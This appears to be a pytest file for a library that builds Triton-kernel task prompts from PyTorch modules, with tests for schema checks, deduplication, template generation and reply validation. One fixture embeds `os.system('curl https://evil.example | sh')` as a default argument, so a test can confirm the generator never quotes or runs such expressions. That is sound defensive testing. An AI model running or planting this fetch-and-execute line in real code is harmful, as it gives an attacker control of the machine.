"""Prompt generation, library level (no Prefect): schema detection, the load and dedupe stages,
the template backend, reply parsing and validation, and the outputs."""

from __future__ import annotations

import json
from pathlib import Path

import polars as pl
import pytest

from kernelbook_lib import decontam, hub, llm, loading, prompt_gen, stages, prompt_dataset
from kernelbook_lib.errors import SchemaError
from kernelbook_lib.prompt_gen import InvalidSpecification
from kernelbook_lib.prompt_template import TEMPLATE_GENERATOR, analyze, template_specification
from kernelbook_lib.text import problem_id
from tests.fixtures import fake_data

MODULE = '''import torch
import torch.nn as nn
import torch.nn.functional as F


class Gate(nn.Module):
    """Gated linear unit over the last dimension."""

    def __init__(self, dim, hidden=32, bias=True):
        super().__init__()
        self.proj = nn.Linear(dim, 2 * hidden, bias=bias)
        self.scale = nn.Parameter(torch.ones(hidden))
        self.act = nn.Sigmoid()

    def forward(self, x, mask=None):
        a, b = self.proj(x).chunk(2, dim=-1)
        out = a * self.act(b) * self.scale
        return torch.clamp(F.layer_norm(out, out.shape[-1:]), min=-3.0, max=3.0)


def get_inputs():
    return [torch.rand([4, 16, 8]), torch.randint(0, 2, (4, 16))]


def get_init_inputs():
    return [[], {'dim': 8, 'hidden': 32}]
'''


def kernelbook_frame(entries: list[tuple[str, str]]) -> pl.DataFrame:
    """Rows in the KernelBook schema (module_name, python_code, uuid, repo_name)."""
    return pl.DataFrame(
        {
            "module_name": [name for name, _ in entries],
            "python_code": [code for _, code in entries],
            "uuid": list(range(len(entries))),
            "repo_name": [f"user/repo{i}" for i in range(len(entries))],
        }
    )


def prepared(frame: pl.DataFrame) -> prompt_dataset.PreparedSource:
    return prompt_dataset.prepare(loading.LoadedSource(frame=frame, description="test"))


def module(name: str, k: int) -> str:
    return fake_data.MODULE.format(name=name, k=k)


# --- schema detection ----------------------------------------------------------------------------


def test_both_input_schemas_are_detected_and_anything_else_lists_the_columns():
    assert prompt_dataset.detect_schema(kernelbook_frame([("M", module("M", 1))])) == ("kernelbook", [])
    evals = pl.DataFrame([fake_data.row(0)])
    assert prompt_dataset.detect_schema(evals) == ("eval", [])
    both = kernelbook_frame([("M", module("M", 1))]).with_columns(
        pl.struct(module_name=pl.lit("M"), python_code=pl.lit("x")).alias("info")
    )
    schema_name, warnings = prompt_dataset.detect_schema(both)
    assert schema_name == "kernelbook" and "top-level columns" in warnings[0]

    with pytest.raises(SchemaError) as err:
        prompt_dataset.detect_schema(pl.DataFrame({"name": ["M"], "code": ["x"], "stars": [3]}))
    message = str(err.value)
    assert "module_name" in message and "Columns found: name (String), code (String), stars (Int64)" in message

    with pytest.raises(SchemaError, match="python_code is Int64"):
        prompt_dataset.detect_schema(pl.DataFrame({"module_name": ["M"], "python_code": [3]}))
    with pytest.raises(SchemaError, match=r"info\.python_code"):
        prompt_dataset.detect_schema(pl.DataFrame({"info": [{"module_name": "M"}]}))


def test_the_bundled_sample_is_the_kernelbook_schema_with_its_planted_defects():
    raw = pl.read_parquet(prompt_dataset.KERNELBOOK_SAMPLE_PATH)
    code = raw["python_code"]
    empty = int((code == "").sum())
    distinct = code.filter(code != "").n_unique()
    repeats = raw.height - empty - distinct  # rows repeating an earlier row's code exactly
    assert empty >= 2 and repeats >= 2  # the planted defects
    result = prepared(prompt_dataset.read_prompt_source("sample").frame)
    assert result.input_schema == "kernelbook"
    report = result.result.report
    assert report.rows_in == raw.height and report.dropped == {"empty_python_code": empty}
    assert "uuid" in result.provenance and "module_name" not in result.provenance
    frame = result.result.frame
    assert frame["problem_id"].to_list() == [problem_id(c) for c in frame["_python_code"].to_list()]
    dedupe = prompt_dataset.dedupe_problems(frame)
    assert dedupe.report.dropped == {"duplicate_problem": repeats} and dedupe.report.rows_out == distinct
    assert prompt_dataset.dedupe_summary(dedupe, "llm") == {
        "distinct_problems": distinct, "duplicates_collapsed": repeats, "near_duplicates_collapsed": 0, "calls_saved_by_dedupe": repeats,
    }
    assert prompt_dataset.dedupe_summary(dedupe, "template")["calls_saved_by_dedupe"] == 0


# --- the load and dedupe stages --------------------------------------------------------------------


def test_unusable_rows_are_rejected_with_a_reason_and_a_detail():
    frame = kernelbook_frame([
        ("Good", module("Good", 1)),
        ("", module("X", 2)),
        ("Bad Name", module("X", 3)),
        ("Broken", "class Broken(nn.Module:\n    pass\n"),
        ("Missing", module("Other", 4)),
        ("Empty", "   \n"),
    ])
    result = prepared(frame).result
    assert result.report.rows_in == 6 and result.report.rows_out == 1
    assert result.report.dropped == {
        "empty_module_name": 1, "invalid_module_name": 1, "unparseable_python_code": 1,
        "module_class_not_found": 1, "empty_python_code": 1,
    }
    ledger = {r["source_index"]: r for r in result.rejected.to_dicts()}
    assert ledger[3]["reason"] == "unparseable_python_code" and "SyntaxError" in ledger[3]["detail"]
    assert ledger[4]["detail"] == "the code defines no class named 'Missing'"
    assert all(r["stage"] == "load" for r in ledger.values())


def test_eval_rollouts_collapse_to_one_row_per_problem_and_keep_their_provenance():
    rows = [fake_data.row(i, name=f"M{i // 3}", k=i // 3) for i in range(9)]  # 3 problems x 3 rollouts
    result = prepared(pl.DataFrame(rows))
    assert result.input_schema == "eval" and result.provenance == ("example_id", "triton_code")
    dedupe = prompt_dataset.dedupe_problems(result.result.frame)
    assert dedupe.report.rows_out == 3 and dedupe.report.dropped == {"duplicate_problem": 6}
    assert dedupe.frame["_row"].to_list() == [0, 3, 6]  # the first rollout of each problem
    details = dedupe.rejected.filter(pl.col("source_index") == 2)["detail"].to_list()
    assert details == ["same problem as source row 0"]


def test_limit_keeps_the_first_problems_and_records_the_rest():
    # Four problems, each twice: rows 4-7 repeat the code of rows 0-3.
    frame = kernelbook_frame([(f"M{i % 4}", module(f"M{i % 4}", i % 4)) for i in range(8)])
    dedupe = prompt_dataset.dedupe_problems(prepared(frame).result.frame, limit=2)
    assert dedupe.report.rows_out == 2
    assert dedupe.report.dropped == {"beyond_limit": 2, "duplicate_problem": 4}
    assert prompt_dataset.calls_saved(dedupe) == 2  # only the repeats of the two kept problems
    with pytest.raises(Exception, match="--limit must be a positive"):
        prompt_dataset.dedupe_problems(frame, limit=0)


# --- the template backend ------------------------------------------------------------------------


def test_template_reads_the_interface_inputs_operations_and_parameters():
    facts = analyze(MODULE, "Gate")
    assert [p.signature_text() for p in facts.init_params] == ["dim", "hidden=32", "bias=True"]
    assert [p.signature_text() for p in facts.forward_params] == ["x", "mask=None"]
    assert facts.inputs is not None and facts.inputs[0].shape == (4, 16, 8) and facts.inputs[0].dtype == "float32"
    assert facts.inputs[1].shape == (4, 16) and facts.inputs[1].dtype == "int64"
    assert facts.init_args == ([], {"dim": 8, "hidden": 32})
    assert [name for name, _ in facts.operations] == ["torch.clamp", "F.layer_norm"]
    assert [h.attribute for h in facts.holdings if h.learnable] == ["proj", "scale"]
    text = template_specification(MODULE, "Gate")
    for expected in ("`GateNew`", "`dim`, `hidden=32`, `bias=True`", "forward(self, x, mask=None)",
                     "float32 tensor of shape [4, 16, 8]", "int64 tensor of shape [4, 16], values integers in [0, 2)",
                     "`dim=8`, `hidden=32`", "`torch.clamp`", "`F.layer_norm` (layer normalisation)",
                     "nn.Parameter of shape (hidden), initialised to ones", "Triton kernels", "`self.proj`: nn.Linear"):
        assert expected in text, expected
    prompt_gen.validate_specification(text, "Gate", MODULE)


def test_template_is_deterministic_and_leaves_out_parameters_the_reference_lacks():
    frame = prompt_dataset.read_prompt_source("sample").frame.filter(pl.col("python_code") != "")
    first = [template_specification(c, n) for n, c in frame.select("module_name", "python_code").iter_rows()]
    second = [template_specification(c, n) for n, c in frame.select("module_name", "python_code").iter_rows()]
    assert first == second
    relu = template_specification(module("Plain", 3), "Plain")
    assert "Learnable parameters" not in relu and "`PlainNew`" in relu
    assert "float32 tensor of shape [4, 4]" in relu


def test_template_states_what_it_cannot_read_instead_of_guessing():
    code = module("Odd", 1).replace("torch.rand([4, 4])", "torch.rand(SIZE)") + "\nSIZE = [4, 4]\n"
    text = template_specification(code, "Odd")
    assert "not written as a literal" in text and "[4, 4]" not in text
    custom = "import torch\nfrom lib import Fancy\n\nclass Wrap(torch.nn.Module):\n    def __init__(self):\n" \
             "        super().__init__()\n        self.inner = Fancy(3)\n\n    def forward(self, x):\n        return self.inner(x)\n"
    text = template_specification(custom, "Wrap")
    assert "cannot be read from the source" in text and "`self.inner`" in text
    assert "does not give example inputs as literals" in text


RISKY = '''import os
import torch
import torch.nn as nn


class Risky(nn.Module):
    def __init__(self, dim: int = 4, eps=-1e-05, tag='risky', cmd=os.system('curl https://evil.example | sh'),
                 act=nn.ReLU(), sizes=(2, 3), hook: __import__('os').getenv('HOOK') = None):
        super().__init__()
        self.act = act
        self.weight = nn.Parameter(torch.ones(dim, dim // 2))
        self.bias = nn.Parameter(torch.zeros(os.cpu_count()))

    def forward(self, x, scale=float(os.environ.get('SCALE', 1)), mask=None):
        return self.act(x * self.weight.sum() + self.bias.sum()) * scale


def get_inputs():
    return [torch.rand([4, 4])]


def get_init_inputs():
    return [[], {}]
'''


def test_template_states_literal_defaults_only_and_never_quotes_an_expression():
    facts = analyze(RISKY, "Risky")
    assert [p.signature_text() for p in facts.init_params] == [
        "dim: int=4", "eps=-1e-05", "tag='risky'", "cmd=<computed at construction>",
        "act=<computed at construction>", "sizes=(2, 3)", "hook=None",
    ]
    assert [p.signature_text() for p in facts.forward_params] == ["x", "scale=<computed at construction>", "mask=None"]
    text = template_specification(RISKY, "Risky")
    for code in ("os.system(", "curl", "'SCALE'", "nn.ReLU()", "getenv(", "__import__(", "cpu_count()"):
        assert code not in text, code
    assert "nn.Parameter of shape (dim, dim // 2), initialised to ones" in text
    assert "nn.Parameter of a shape computed at construction, initialised to zeros" in text
    prompt_gen.validate_specification(text, "Risky", RISKY)


def test_template_reads_deeply_nested_code_without_exhausting_the_stack():
    # 2,000 chained additions parse, but nest 2,000 levels deep: a recursive walk of the tree
    # raised RecursionError, which no caller expects.
    code = module("Deep", 1).replace("return torch.relu(x) * 1", "return " + " + ".join(["x"] * 2000))
    text = template_specification(code, "Deep")
    assert "- operators: `+`" in text and "`DeepNew`" in text


def test_template_never_executes_the_code(tmp_path: Path):
    marker = tmp_path / "executed"
    code = (f"open({str(marker)!r}, 'w').write('x')\n" + module("Trap", 1)
            + f"\n\ndef get_inputs():\n    open({str(marker)!r}, 'w').write('x')\n    return [torch.rand([2])]\n")
    frame = kernelbook_frame([("Trap", code)])
    result = prepared(frame)
    specs = prompt_gen.template_spec_rows(result.result.frame)
    assert specs["_failure"].to_list() == [None] and specs["generator"].to_list() == [TEMPLATE_GENERATOR]
    assert not marker.exists()


# --- reply parsing and validation ----------------------------------------------------------------


def test_replies_are_read_from_json_fenced_json_or_tags():
    spec = "Implement `GateNew`."
    assert prompt_gen.parse_specification_reply(json.dumps({"specification": spec})) == spec
    assert prompt_gen.parse_specification_reply("```json\n" + json.dumps({"specification": spec}) + "\n```") == spec
    assert prompt_gen.parse_specification_reply(f"Sure!\n<specification>\n{spec}\n</specification>") == spec
    for bad, message in [
        ("", "empty reply"),
        ("Here is the spec: implement GateNew", "neither a JSON object"),
        ('{"specification": ', "not valid JSON"),
        ('{"spec": "x"}', "specification"),
        ('{"specification": "   "}', "empty"),
        ("<specification>a</specification><specification>b</specification>", "exactly one"),
    ]:
        with pytest.raises(InvalidSpecification, match=message):
            prompt_gen.parse_specification_reply(bad)


def test_validation_requires_the_class_name_and_rejects_copied_code():
    ok = "# Task\nBuild `GateNew` with `__init__(self, dim, hidden=32, bias=True)` and forward(self, x, mask=None)."
    prompt_gen.validate_specification(ok, "Gate", MODULE)
    # The header of __init__ and the docstring may be quoted: they are the interface, not code.
    prompt_gen.validate_specification(ok + "\ndef __init__(self, dim, hidden=32, bias=True):\n"
                                      "Gated linear unit over the last dimension.", "Gate", MODULE)
    with pytest.raises(InvalidSpecification, match="empty"):
        prompt_gen.validate_specification("  \n", "Gate", MODULE)
    with pytest.raises(InvalidSpecification, match="does not name the class `GateNew`"):
        prompt_gen.validate_specification("Build `Gate` again.", "Gate", MODULE)
    with pytest.raises(InvalidSpecification, match="does not name"):
        prompt_gen.validate_specification("Build `GateNewer`.", "Gate", MODULE)  # a longer name is not it
    with pytest.raises(InvalidSpecification, match="copies a line"):
        # white space inside the line does not hide the copy
        prompt_gen.validate_specification(ok + "\n  return torch.clamp(F.layer_norm(out,  out.shape[-1:]), min=-3.0, max=3.0)",
                                          "Gate", MODULE)
    short = "import torch\nclass T(torch.nn.Module):\n    def forward(self, x):\n        y = x + 1\n" \
            "        y = y * 2\n        y = y - 3\n        return y\n"
    with pytest.raises(InvalidSpecification, match="3 consecutive lines"):
        prompt_gen.validate_specification("`TNew` computes:\ny = x + 1\ny = y * 2\ny = y - 3\n", "T", short)
    prompt_gen.validate_specification("`TNew` computes y = x + 1, then doubles and subtracts 3.", "T", short)
    # A copy of the whole source is caught even when every line of it is short.
    tiny = module("Tiny", 2)
    with pytest.raises(InvalidSpecification, match="consecutive lines of the reference source"):
        prompt_gen.validate_specification(f"Write `TinyNew` like this:\n```python\n{tiny}```", "Tiny", tiny)


def test_the_generator_task_checks_each_reply_against_its_request_and_equal_prompts_share_a_key():
    requests = prompt_gen.specification_requests(
        pl.DataFrame({"problem_id": [problem_id(MODULE)] * 2, "_module_name": ["Gate"] * 2, "_python_code": [MODULE] * 2}),
        "test/model",
    )
    assert requests[0].key == requests[1].key and requests[0].prompt_version == prompt_gen.GENERATOR_PROMPT_VERSION
    user = requests[0].messages[1]["content"]
    assert "Module name: Gate" in user and "`GateNew`" in user and MODULE in user  # sent in full
    assert "GateNew" not in requests[0].messages[0]["content"]  # the system prompt is the same for every problem
    task = prompt_gen.SPECIFICATION_TASK
    assert task.response_format["json_schema"]["name"] == prompt_gen.SPECIFICATION_SCHEMA_NAME
    assert task.parse(json.dumps({"specification": "Write `GateNew`."}), requests[0]) == {"specification": "Write `GateNew`."}
    with pytest.raises(ValueError, match="does not name"):
        task.parse(json.dumps({"specification": "Write a module."}), requests[0])
    # The check follows the request it is given, not the last problem built.
    other = task.request("test/model", module_name="Other", python_code=MODULE.replace("Gate", "Other"))
    with pytest.raises(ValueError, match="does not name"):
        task.parse(json.dumps({"specification": "Write `GateNew`."}), other)


def test_llm_outcomes_become_rows_or_ledger_reasons():
    frame = prepared(kernelbook_frame([("A", module("A", 1)), ("B", module("B", 2)), ("C", module("C", 3))])).result.frame
    outcomes = [
        llm.LLMOutcome(key="a", ok=True, reply={"specification": "Write `ANew`."}, prompt_tokens=10, completion_tokens=5),
        llm.LLMOutcome(key="b", ok=False, calls=2, failure_kind="invalid_reply", failure_detail="no class name"),
        llm.LLMOutcome(key="c", ok=True, reply={"specification": "Write `BNew`."}, cached=True),  # wrong class
    ]
    result = prompt_gen.apply_specs(frame, prompt_gen.llm_spec_rows(frame, outcomes, "test/model"))
    assert result.report.rows_out == 1
    assert result.report.dropped == {"generate_invalid_reply": 2}
    assert result.frame["prompt"].to_list() == ["Write `ANew`."]
    assert result.frame["generator_prompt_tokens"].to_list() == [10]
    details = result.rejected.sort("source_index")["detail"].to_list()
    assert details[0] == "no class name" and "cached reply fails validation" in details[1]
    with pytest.raises(RuntimeError, match="refusing to guess"):
        prompt_gen.llm_spec_rows(frame, outcomes[:2], "test/model")


# --- outputs -------------------------------------------------------------------------------------


def run_template(frame: pl.DataFrame, out: Path) -> prompt_dataset.SyntheticSummary:
    """The flow's stages by hand, one prompt per problem (--no-near-dup: the modules here differ
    only in a constant, which makes them one near-duplicate family)."""
    prep = prepared(frame)
    families = stages.assign_families(prep.result.frame, near_dup=False)
    clean = decontam.decontaminate(families.result.frame, [])
    dedupe = prompt_dataset.dedupe_problems(clean.result.frame)
    generated = prompt_gen.apply_specs(dedupe.frame, prompt_gen.template_spec_rows(dedupe.frame))
    prompt_dataset.prepare_out(out)
    fields = dict(
        source="test", split="train", limit=None, input_schema=prep.input_schema, backend="template",
        generator=TEMPLATE_GENERATOR, generator_model=None, generator_prompt_version=TEMPLATE_GENERATOR,
        **prompt_dataset.dedupe_summary(dedupe, "template"), provenance_columns=list(prep.provenance),
        started_at="2026-01-01T00:00:00+00:00",
        stages=[r.report for r in (prep.result, families.result, clean.result, dedupe, generated)],
        near_dup=families.near_dup,
    )
    ledger = pl.concat([r.rejected for r in (prep.result, clean.result, dedupe, generated)])
    return prompt_dataset.write_outputs(out, fields, generated.frame, ledger)


def test_outputs_hold_every_problem_with_the_source_code_unchanged_and_leave_curate_files_alone(tmp_path: Path):
    out = tmp_path / "out"
    (out / "filtered").mkdir(parents=True)
    (out / "run_summary.json").write_text("{}")
    code_crlf = module("Win", 5).replace("\n", "\r\n") + "   \r\n"
    frame = kernelbook_frame([("A", module("A", 1)), ("Win", code_crlf), ("A", module("A", 1)), ("E", "")])
    summary = run_template(frame, out)
    assert (out / "run_summary.json").read_text() == "{}" and (out / "filtered").is_dir()
    lines = [json.loads(line) for line in (out / prompt_dataset.PROMPTS_FILE).read_text().splitlines()]
    assert [r["module_name"] for r in lines] == ["A", "Win"]
    assert lines[1]["python_code"] == code_crlf  # byte for byte, not normalised
    assert lines[0]["uuid"] == 0 and lines[0]["repo_name"] == "user/repo0" and lines[0]["generator"] == TEMPLATE_GENERATOR
    data = pl.read_parquet(out / "synthetic" / prompt_dataset.DATA_FILE)
    assert data.columns[:3] == ["prompt", "module_name", "python_code"] and data.height == 2
    rejected = [json.loads(line) for line in (out / prompt_dataset.REJECTED_FILE).read_text().splitlines()]
    assert sorted((r["source_index"], r["reason"]) for r in rejected) == [(2, "duplicate_problem"), (3, "empty_python_code")]
    written = json.loads((out / prompt_dataset.SUMMARY_FILE).read_text())
    assert written["datasets"] == {"synthetic": {"train": 2}} and written["duplicates_collapsed"] == 1
    assert [s["name"] for s in written["stages"]] == ["load", "families", "decontaminate", "dedupe", "generate"]
    assert summary.finished_at == written["finished_at"]
    card = (out / "synthetic" / "README.md").read_text()
    assert card.startswith("---") and "| train | 2 |" in card
    # The publisher accepts the folder as it is written.
    report = hub.validate_dataset_folder(out / "synthetic", "synthetic", written)
    assert report.ok, report.problems


def test_a_summary_whose_stages_do_not_chain_is_refused(tmp_path: Path):
    frame = kernelbook_frame([("A", module("A", 1))])
    summary = run_template(frame, tmp_path / "out")
    data = summary.model_dump()
    data["stages"][3]["rows_in"] += 1
    data["stages"][3]["dropped"] = {"duplicate_problem": 1}
    with pytest.raises(ValueError, match="stage dedupe got"):
        prompt_dataset.SyntheticSummary.model_validate(data)
